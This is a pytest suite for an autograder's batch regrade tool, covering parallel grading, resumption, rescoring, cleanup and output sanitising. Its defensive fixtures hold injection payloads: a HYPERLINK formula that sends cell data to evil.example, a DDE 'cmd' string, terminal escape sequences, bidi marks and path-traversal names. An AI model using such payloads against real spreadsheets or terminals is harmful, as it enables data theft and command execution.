"""make regrade: a whole export graded in parallel, resumable, summarised; one hang or one
empty upload never stops the batch; a changed course changes exactly the right rows."""
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile

import pytest
import yaml

from conftest import ROOT

sys.path.insert(0, str(ROOT / "tools"))
import regrade  # noqa: E402

def solution(replace=()):
    files = {name: (ROOT / "solution" / name).read_text() for name in ("vae.py", "assignment.py")}
    for old, new in replace:
        assert files["vae.py"].count(old) == 1
        files["vae.py"] = files["vae.py"].replace(old, new)
    return files


CLASS = {  # submission folder -> (files by relative path, Gradescope's score)
    "submission_1001": ({f"hw6/code/{k}": v for k, v in solution().items()}, 15.0),
    "submission_1002": ({"vae.py": (ROOT / "code" / "vae.py").read_text(),
                         "assignment.py": (ROOT / "code" / "assignment.py").read_text()}, 0.0),
    "submission_1003": (solution([("return mu + tf.exp(0.5 * logvar) * eps", "return mu + tf.exp(logvar) * eps")]), 15.0),
    "submission_1004": (solution([("kl = -0.5 * tf.reduce_sum(", "kl = 0.5 * tf.reduce_sum(")]), 4.0),
    "submission_1005": (solution([("    eps = tf.random.normal(tf.shape(mu))\n", "    while True:\n        pass\n")]), 10.0),
    "submission_1006": ({}, 0.0),
    "submission_1007": ({f"{d}/{k}": v for d in ("a", "b") for k, v in solution().items()}, 15.0),
    "submission_1008": (solution(), 25.0),  # the files of 1001, in another folder layout
}
COURSE = ('title = "regrade test"\nparts = ["reparameterize", "loss"]\n'
          "[platform]\nmemory_mb = 3072\n"  # as the course files have it: each grading's processes are forked
          "[limits]\nunit_seconds = 25\n")


def make_export(tmp_path):
    """A zip in the layout of Gradescope's Export Submissions."""
    metadata = {name: {":submitters": [{":name": f"Student {name[-4:]}", ":email": f"s{name[-4:]}@example.edu",
                                        ":sid": name[-4:]}], ":score": score, ":status": "processed"}
                for name, (_, score) in CLASS.items()}
    path = tmp_path / "assignment_42_export.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("assignment_42_export/submission_metadata.yml", yaml.safe_dump(metadata))
        for name, (files, _) in CLASS.items():
            archive.writestr(f"assignment_42_export/{name}/", "")
            for relative, text in files.items():
                archive.writestr(f"assignment_42_export/{name}/{relative}", text)
    return path


def run(export, out, course, *extra):
    return subprocess.run([sys.executable, "tools/regrade.py", str(export), "--out", str(out), "--course", str(course),
                           "--jobs", "2", *extra], cwd=ROOT, capture_output=True, text=True, timeout=1800)


def read_csv(out):
    with open(out / "summary.csv", newline="") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


@pytest.mark.minutes(2.5)
@pytest.mark.slow  # grades a small class
def test_a_class_is_regraded_summarised_resumed_and_rescored_with_new_points(tmp_path):
    export, out, course = make_export(tmp_path), tmp_path / "out", tmp_path / "course.toml"
    course.write_text(COURSE)
    done = run(export, out, course)
    assert done.returncode == 0, done.stderr[-3000:]
    assert "8 submissions, 1 with the same files as another" in done.stdout
    assert "0 measured before, 7 to grade, 2 at a time" in done.stdout
    results = {name: json.loads((out / name / "results.json").read_text()) for name in CLASS}
    totals = {name: r["score"] for name, r in results.items()}
    assert totals == {"submission_1001": 25, "submission_1002": 0, "submission_1003": 19, "submission_1004": 14,
                      "submission_1005": 15, "submission_1006": 0, "submission_1007": 0, "submission_1008": 25}, totals
    hang = next(e for e in results["submission_1005"]["tests"] if e["number"] == "1.1")["output"]
    assert "ran out of time" in hang
    assert "no vae.py was found" in results["submission_1006"]["tests"][0]["output"]
    assert "2 files named vae.py were found" in results["submission_1007"]["tests"][0]["output"]
    rows = read_csv(out)
    assert {k: float(r["total"]) for k, r in rows.items()} == totals
    assert rows["submission_1003"]["names"] == "Student 1003" and rows["submission_1003"]["1.2"] == "0.0"
    assert rows["submission_1004"]["gradescope_total"] == "4.0" and rows["submission_1004"]["change"] == "10.0"
    assert rows["submission_1008"]["same_files_as"] == "submission_1001" and rows["submission_1001"]["same_files_as"] == ""
    assert "same files as submission_1001" in (out / "submission_1008" / "grader.log").read_text()
    assert "grading reparameterize ..." in (out / "submission_1001" / "grader.log").read_text()  # the grading's log
    stamp = results["submission_1001"]["extra_data"]  # which grader, course file and key graded
    assert {r["grader"] for r in rows.values()} == {stamp["grader"]} and len(stamp["grader"]) == 12
    assert rows["submission_1001"]["course_sha256"] == stamp["course_sha256"] and rows["submission_1001"]["key"] == stamp["key"]
    assert stamp["key"] in results["submission_1001"]["output"] and stamp["grader"] in results["submission_1001"]["output"]
    assert rows["submission_1003"]["student_ids"] == "1003" and float(rows["submission_1003"]["maximum"]) > 0
    assert float(rows["submission_1003"]["seconds"]) > 0
    assert (out / "histogram.png").stat().st_size > 1000
    changed = (out / "changed.md").read_text()
    assert "submission_1004" in changed and "submission_1002" not in changed
    assert "| 2.3 loss_function: the KL term vanishes exactly at mu = 0, logvar = 0 | 4 | 4 of 8 | 16 |" in (
        out / "tests.md").read_text()

    start = time.monotonic()
    again = run(export, out, course)  # resumed: nothing left to grade
    assert "8 measured before" in again.stdout and "0 to grade" in again.stdout
    assert time.monotonic() - start < 30

    # 2.1 worth 10 instead of 7, and 2.3 shown after the due date: scored again from what was measured
    course.write_text(COURSE + '[tests]\n"2.1" = { points = 10 }\n"2.3" = { visibility = "after_due_date" }\n')
    start = time.monotonic()
    rescored = run(export, out, course)
    seconds = time.monotonic() - start
    assert rescored.returncode == 0 and "8 measured before" in rescored.stdout and "0 to grade" in rescored.stdout
    assert seconds < 30, seconds
    new = {k: float(r["total"]) for k, r in read_csv(out).items()}
    passed_2_1 = {"submission_1001", "submission_1003", "submission_1005", "submission_1008"}
    assert {k for k in new if new[k] != totals[k]} == passed_2_1
    assert all(new[k] == totals[k] + 3 for k in passed_2_1)
    after = json.loads((out / "submission_1004" / "results.json").read_text())
    assert after["extra_data"]["course_sha256"] != stamp["course_sha256"]
    entry = next(e for e in after["tests"] if e["number"] == "2.3")
    assert entry["visibility"] == "after_due_date" and entry["output"] == next(
        e for e in results["submission_1004"]["tests"] if e["number"] == "2.3")["output"]
    assert "the KL term vanishes" not in (out / "submission_1004" / "report.html").read_text()
    assert "the KL term vanishes" in (out / "submission_1004" / "report-staff.html").read_text()

    # other limits can change what is measured: that is graded again
    course.write_text(COURSE.replace("unit_seconds = 25", "unit_seconds = 26"))
    regraded = run(export, out, course)
    assert regraded.returncode == 0 and "0 measured before" in regraded.stdout and "7 to grade" in regraded.stdout
    assert {k: float(r["total"]) for k, r in read_csv(out).items()} == totals


def test_a_malformed_export_is_one_clear_line(tmp_path):
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "submission_metadata.yml").write_text("submission_1:\n  :score: [1, 2\n  :status: x\n")
    with pytest.raises(regrade.ExportError, match=r"submission_metadata.yml, line \d+"):
        regrade.read_metadata(folder)
    done = subprocess.run([sys.executable, "tools/regrade.py", str(folder), "--out", str(tmp_path / "out")],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "line" in done.stderr


def test_a_grader_that_fails_is_named_as_the_graders_fault(tmp_path, monkeypatch):
    """A grader that dies before writing results gives no points, says it was the grader's
    fault with its last line of error, and keeps its log; the batch exits 1 naming it."""
    fake = tmp_path / "python"
    fake.write_text("#!/bin/sh\necho 'Traceback (most recent call last):' >&2\necho 'RuntimeError: boom' >&2\nexit 3\n")
    fake.chmod(0o755)
    monkeypatch.setattr(regrade.sys, "executable", str(fake))
    course = tmp_path / "course.toml"
    course.write_text(COURSE)
    folder = tmp_path / "export" / "submission_1"
    folder.mkdir(parents=True)
    (folder.parent / "submission_metadata.yml").write_text(yaml.safe_dump(
        {"submission_1": {":submitters": [{":name": "A"}], ":score": 25.0}}))
    out = tmp_path / "out"
    assert regrade.main([str(folder.parent), "--out", str(out), "--course", str(course), "--jobs", "1"]) == 1
    results = json.loads((out / "submission_1" / "results.json").read_text())
    assert results["score"] == 0 and all(e["score"] == 0 for e in results["tests"])
    said = results["tests"][0]["output"]
    assert "GRADER ERROR, not the student's" in said and "code 3" in said and "RuntimeError: boom" in said
    assert "RuntimeError: boom" in (out / "submission_1" / "grader.log").read_text()


def test_a_terminated_regrade_ends_its_gradings(tmp_path):
    """`kill` (SIGTERM) stops the regrade like Ctrl-C: no grading goes on without it."""
    fake = tmp_path / "python"  # a grading that would run for ever, and says where it runs
    fake.write_text(f"#!/bin/sh\necho $$ > {tmp_path}/pid\nexec sleep 600\n")
    fake.chmod(0o755)
    course = tmp_path / "course.toml"
    course.write_text(COURSE)
    export = tmp_path / "export"
    (export / "submission_1").mkdir(parents=True)
    (export / "submission_metadata.yml").write_text(yaml.safe_dump({"submission_1": {":score": 1.0}}))
    code = (f"import sys; sys.path.insert(0, {str(ROOT / 'tools')!r}); import regrade; "
            f"regrade.sys.executable = {str(fake)!r}; "
            f"sys.exit(regrade.main([{str(export)!r}, '--out', {str(tmp_path / 'out')!r}, '--course', {str(course)!r}]))")
    process = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, stdout=subprocess.PIPE, text=True)
    for _ in range(200):
        if (tmp_path / "pid").exists() and (tmp_path / "pid").read_text().strip():
            break
        time.sleep(0.05)
    grading = int((tmp_path / "pid").read_text())
    process.terminate()
    assert process.wait(timeout=30) == 130
    assert "stopped: 0 graded this time" in process.stdout.read()
    time.sleep(0.2)
    with pytest.raises(ProcessLookupError):
        os.kill(grading, 0)


def test_a_record_is_read_back_only_under_the_key_it_was_measured_with(tmp_path):
    """record.json round-trips verdicts, log and pictures; another key, another layout or a
    damaged file reads as no record (the submission is graded again)."""
    from autograder.outputs import record

    path = tmp_path / "record.json"
    record.save(path, "k1", {"1.1": (1.0, "passed"), "1.2": (0.25, "half")}, 12.5, "log", [("t", b"\x89PNG", "c", "6.3")])
    assert os.stat(path).st_mode & 0o077 == 0
    kept = record.load(path, "k1")
    assert kept["verdicts"] == {"1.1": (1.0, "passed"), "1.2": (0.25, "half")} and kept["pictures"][0][1] == b"\x89PNG"
    assert record.load(path, "k2") is None
    path.write_text(path.read_text()[:-5])
    assert record.load(path, "k1") is None


FAKE_GRADER = '''#!{python}
"""Stands for `python -m autograder` in a regrade: no training, a record and results.json as the
grader writes them, with a hostile first line of message for every test it fails."""
import argparse, sys
sys.path.insert(0, {root!r})
from autograder.outputs import record
from autograder.config.course import load
from autograder.config.stamp import stamp
from autograder.grade import score

parser = argparse.ArgumentParser()
for name in ("-m", "--course", "--submission", "--results", "--record"):
    parser.add_argument(name)
args = parser.parse_args()
course = load(args.course)
files = "".join(p.read_text() for p in sorted(__import__("pathlib").Path(args.submission).rglob("*.py")))
verdicts = {{t.number: (1.0 if "good" in files else 0.25, "=HYPERLINK(1)|[x](http://e)\\x1b[2J\\u202e\\nmore")
            for part in course.parts for t in course.tests[part.NAME]}}
record.save(args.record, record.measured_key(course, stamp(course)), verdicts, 1.0, "log", [])
score(course, verdicts, 1.0, "log", [], args.results, lambda *a, **k: None)
print("grading reparameterize ...")
'''

HOSTILE = {  # metadata field -> a value that a spreadsheet or a terminal would act on
    ":name": ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "\r=1+1", "\x1b]0;pwned\x07Eve\x1b[2J\x1b[31m", "Mallory\u202egnp.exe\n# heading | x",
              "Zoë [me](http://e) <b>", "\uff1d1+1"],
    ":email": ["=1+1@example.edu", "a@example.edu\x1b[8m\x9b8m"],
    ":sid": ["-123", "@9"],
}


FORMULA = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # what a spreadsheet computes


def hostile_export(tmp_path, stamp=None):
    """An unpacked export of 10 submissions whose metadata is hostile in every field; 2 and 3 have
    the same files, as have 4 and 5."""
    export = tmp_path / "export"
    metadata = {}
    for i in range(10):
        name = f"submission_{i}"
        body = {2: "twin a", 3: "twin a", 4: "good twin", 5: "good twin"}.get(i, f"good {i}" if i % 2 else f"bad {i}")
        for file in ("vae.py", "assignment.py"):
            (export / name).mkdir(parents=True, exist_ok=True)
            (export / name / file).write_text(f"# {body}\n")
        people = [{":name": HOSTILE[":name"][i], ":email": HOSTILE[":email"][i % 2], ":sid": HOSTILE[":sid"][i % 2]}]
        metadata[name] = {":submitters": people, ":score": 25.0, ":status": "processed"}
        if stamp:
            metadata[name][":results"] = {"score": 1.0, "tests": [], "extra_data": dict(stamp)}
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
    os.chmod(export, 0o700)
    return export


def fake_grader(tmp_path, monkeypatch):
    fake = tmp_path / "fake-python"
    fake.write_text(FAKE_GRADER.format(python=sys.executable, root=str(ROOT)))
    fake.chmod(0o755)
    monkeypatch.setattr(regrade.sys, "executable", str(fake))


def test_hostile_metadata_and_messages_reach_no_file_or_terminal_as_they_are(tmp_path, monkeypatch, capsys):
    """Names, emails, ids and messages that start formulas, carry escape sequences, bidirectional
    marks, line breaks or Markdown: summary.csv's text cells start with a quote where a spreadsheet
    would compute them, and nothing printed or written keeps an escape or a line break of theirs."""
    fake_grader(tmp_path, monkeypatch)
    course = tmp_path / "course.toml"
    course.write_text(COURSE)
    export, out = hostile_export(tmp_path), tmp_path / "out"
    assert regrade.main([str(export), "--out", str(out), "--course", str(course), "--jobs", "2"]) == 0
    said = capsys.readouterr()
    with open(out / "summary.csv", newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert len(table) == 11
    for row in table:  # a number (-18.75) is a number to a spreadsheet too; text never starts a formula
        for value in row:
            assert re.fullmatch(r"-?[0-9.]+", value) or not value.startswith(FORMULA), value
    rows = {row[0]: row for row in table[1:]}
    assert rows["submission_0"][1] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert rows["submission_4"][1] == "'=1+1" and rows["submission_5"][1] == "'=1+1"  # a tab, a return before
    assert rows["submission_2"][1] == "'-2+3" and rows["submission_0"][3] == "'-123"
    assert rows["submission_6"][1] == "Eve" and rows["submission_7"][1] == "Mallorygnp.exe # heading | x"
    assert rows["submission_1"][2] == "a@example.edu" and rows["submission_0"][2] == "'=1+1@example.edu"
    assert float(rows["submission_0"][7]) == -18.75  # a negative change is a number, not text
    assert not any("\r" in value or "\n" in value for row in table for value in row)
    files = {name: (out / name).read_text(encoding="utf-8") for name in ("summary.csv", "tests.md", "changed.md")}
    for name, written in {**files, "stdout": said.out, "stderr": said.err}.items():
        for bad in ("\x1b", "\x07", "\x9b", "\u202e", "pwned"):
            assert bad not in written, (name, bad)
    assert "\r" not in files["tests.md"] + files["changed.md"] + said.out
    changed = files["changed.md"].splitlines()
    assert len(changed) == 2 + 5 and all(line.startswith("- submission") for line in changed[2:])  # one line each
    assert "\\[me\\](http://e) \\<b\\>" in files["changed.md"]
    for line in files["tests.md"].splitlines():  # every row has its five cells: no | of a message splits one
        assert len(re.split(r"(?<!\\)\|", line)) == 7, line
    assert "| =HYPERLINK(1)\\|\\[x\\](http://e) |" in files["tests.md"]


def test_tests_md_counts_points_lost_and_the_first_line_counts_twins_as_summary_csv_does(tmp_path, monkeypatch,
                                                                                         capsys):
    fake_grader(tmp_path, monkeypatch)
    course = tmp_path / "course.toml"
    course.write_text(COURSE)
    export, out = hostile_export(tmp_path), tmp_path / "out"
    for attempt in range(2):  # the second run re-scores every submission from its record
        assert regrade.main([str(export), "--out", str(out), "--course", str(course), "--jobs", "2"]) == 0
        first = capsys.readouterr().out.splitlines()[0]
        rows = read_csv(out)
        twins = sum(1 for r in rows.values() if r["same_files_as"])
        assert twins == 2 and re.findall(r"(\d+) (?:more )?with the same files", first) == [str(twins)], first
        assert ("0 measured before" if attempt == 0 else "10 measured before") in first
    from autograder.config.course import load

    graded = load(course)
    lines = (out / "tests.md").read_text().splitlines()
    assert lines[0].startswith("| test | points | submissions that lost points | points lost in all |")
    for test in (t for part in graded.parts for t in graded.tests[part.NAME]):
        lost = [test.points - float(r[test.number]) for r in rows.values() if float(r[test.number]) < test.points]
        assert len(lost) == 5 and sum(lost) > len(lost)  # 0.25 of a test worth 2 to 7 points
        row = next(line for line in lines if line.startswith(f"| {test.number} "))
        assert f"| {test.points:g} | 5 of 10 | {round(sum(lost), 2):g} |" in row, row


def test_an_entry_that_is_not_a_folder_name_is_refused(tmp_path):
    for key in ("../../etc", "a/b", "..", "\x1b[2Jx"):
        folder = tmp_path / f"export{len(key)}"
        folder.mkdir()
        (folder / "submission_metadata.yml").write_text(yaml.safe_dump({key: {":score": 1.0}}))
        with pytest.raises(regrade.ExportError, match="not a submission folder's name") as refused:
            regrade.read_metadata(folder)
        assert "\x1b" not in regrade.plain(str(refused.value))


def test_without_a_course_the_one_the_export_was_graded_with_is_taken_or_it_refuses(tmp_path, monkeypatch, capsys):
    """No --course (make regrade without COURSE=): the course file whose SHA-256 the export's results
    are stamped with (Gradescope's :results, extra_data), said on the first line; without such a
    file, without stamps or with several, one line naming COURSE= and nothing graded."""
    fake_grader(tmp_path, monkeypatch)
    courses = tmp_path / "courses"
    courses.mkdir()
    (courses / "default.toml").write_text((ROOT / "courses" / "default.toml").read_text())
    (courses / "small.toml").write_text(COURSE)
    monkeypatch.setattr(regrade, "COURSES", courses)
    digest = regrade.sha(courses / "small.toml")

    def attempt(stamp, name):
        out = tmp_path / name
        code = regrade.main([str(hostile_export(tmp_path / name, stamp)), "--out", str(out), "--jobs", "2"])
        return code, capsys.readouterr(), out

    code, said, out = attempt({"course": "course.toml", "course_sha256": digest, "key": "k"}, "stamped")
    assert code == 0, said.err
    assert said.out.splitlines()[0] == (f"course {courses / 'small.toml'}: the course the export's results were graded "
                                        f"with (SHA-256 {digest}; COURSE= or --course chooses another)")
    assert "(course small.toml)" in said.out.splitlines()[1]
    assert {json.loads((out / f"submission_{i}" / "results.json").read_text())["extra_data"]["course_sha256"]
            for i in range(10)} == {digest}
    for stamp, name in ((None, "unstamped"), ({"course": "course.toml", "course_sha256": "0" * 12}, "edited")):
        code, said, out = attempt(stamp, name)
        assert code == 2 and said.out == "" and said.err.count("\n") == 1 and "COURSE=courses/<name>.toml" in said.err
        assert not (out / "submission_0").exists()
    export = hostile_export(tmp_path / "mixed", {"course_sha256": digest})
    metadata = yaml.safe_load((export / "submission_metadata.yml").read_text())
    metadata["submission_3"][":results"]["extra_data"]["course_sha256"] = regrade.sha(courses / "default.toml")
    (export / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
    assert regrade.main([str(export), "--out", str(tmp_path / "mixed" / "out")]) == 2
    said = capsys.readouterr()
    assert said.err.count("\n") == 1 and "graded with 2 course files" in said.err and "COURSE=" in said.err


def test_make_regrade_passes_out_and_leaves_the_course_to_the_export(tmp_path):
    """make regrade OUT=... reaches --out; without COURSE= no --course is given, so the tool takes
    the course the export was graded with (or refuses)."""
    def planned(*variables):
        done = subprocess.run(["make", "-n", "regrade", "EXPORT=e.zip", *variables], cwd=ROOT, capture_output=True,
                              text=True, timeout=60)
        return next(line for line in done.stdout.splitlines() if "tools/regrade.py" in line)

    assert '--out "/tmp/my regrade"' in planned("OUT=/tmp/my regrade") and "--course" not in planned()
    assert "--out" not in planned() and '--course "courses/conv.toml"' in planned("COURSE=courses/conv.toml")


def test_clean_student_data_removes_every_students_data_and_clean_keeps_the_gradings(tmp_path):
    """make clean-student-data removes outputs/regrade/ (names, emails, code) and make grade's
    results and reports; make clean removes the reports too but keeps a class's gradings."""
    def tree():
        (tmp_path / "outputs" / "regrade" / "export" / "submission_1").mkdir(parents=True, exist_ok=True)
        for name in ("outputs/report.html", "outputs/report-staff.html", "outputs/results.json", "outputs/.gitkeep",
                     "outputs/regrade/summary.csv"):
            (tmp_path / name).write_text("Student 1, s1@example.edu")

    shutil.copy(ROOT / "Makefile", tmp_path / "Makefile")
    tree()
    subprocess.run(["make", "clean"], cwd=tmp_path, check=True, capture_output=True, timeout=60)
    left = sorted(str(p.relative_to(tmp_path)) for p in (tmp_path / "outputs").rglob("*"))
    assert left == ["outputs/.gitkeep", "outputs/regrade", "outputs/regrade/export", "outputs/regrade/export/submission_1",
                    "outputs/regrade/summary.csv"], left
    tree()
    subprocess.run(["make", "clean-student-data"], cwd=tmp_path, check=True, capture_output=True, timeout=60)
    assert sorted(p.name for p in (tmp_path / "outputs").iterdir()) == [".gitkeep"]


def test_a_twin_gets_its_originals_results_when_the_record_cannot_be_rescored(tmp_path):
    """A record measured under another key (the grader's files changed while the batch ran) is not
    re-scored; the twin still gets the original's results, so summary.csv lists every twin."""
    from autograder.outputs import record
    from autograder.config.course import load

    course = tmp_path / "course.toml"
    course.write_text(COURSE)
    out = tmp_path / "out"
    (out / "submission_1").mkdir(parents=True)
    record.save(out / "submission_1" / regrade.RECORD, "another key", {"1.1": (1.0, "passed")}, 1.0, "log", [])
    (out / "submission_1" / "results.json").write_text(json.dumps({"score": 7.0, "tests": []}))
    assert regrade.copy_grading("submission_1", "submission_2", load(course), out) is None
    assert json.loads((out / "submission_2" / "results.json").read_text()) == {"score": 7.0, "tests": []}


def test_a_course_taken_from_the_export_gets_its_data_set_fetched(tmp_path, monkeypatch):
    """make regrade fetched the default course's data set; a course taken from the export's stamp
    (Fashion-MNIST, say) has its own fetched before grading when it is not here."""
    from autograder.config import settings
    from autograder.config.course import load

    monkeypatch.setattr(settings, "CURRENT", list(settings.CURRENT))  # the data set in use, restored after
    called = tmp_path / "called"
    fake = tmp_path / "python"
    fake.write_text(f"#!/bin/sh\necho \"$@\" > {called}\n")
    fake.chmod(0o755)
    monkeypatch.setattr(regrade, "INTERPRETER", str(fake))
    monkeypatch.setenv("MNIST_NPZ", str(tmp_path / "absent.npz"))
    course = load(ROOT / "courses" / "fashion-mnist.toml")
    regrade.ensure_data(course)
    assert called.read_text().split() == [str(ROOT / "data" / "fetch.py"), "--course", str(course.path)]
    called.unlink()
    monkeypatch.setenv("MNIST_NPZ", str(ROOT / "tools" / "regrade.py"))  # a file that is there: nothing fetched
    regrade.ensure_data(course)
    assert not called.exists()
